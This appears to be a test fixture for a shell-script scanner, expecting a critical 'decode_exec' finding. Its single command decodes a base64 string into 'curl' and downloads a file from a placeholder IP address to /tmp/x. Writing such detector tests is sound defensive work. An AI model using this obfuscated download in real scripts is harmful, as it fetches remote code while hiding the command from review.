# expect: shell.decode_exec critical
# note: the command itself comes out of a decoder
# path: x.sh
$(echo Y3VybA== | base64 -d) -s https://203.0.113.7/x -o /tmp/x
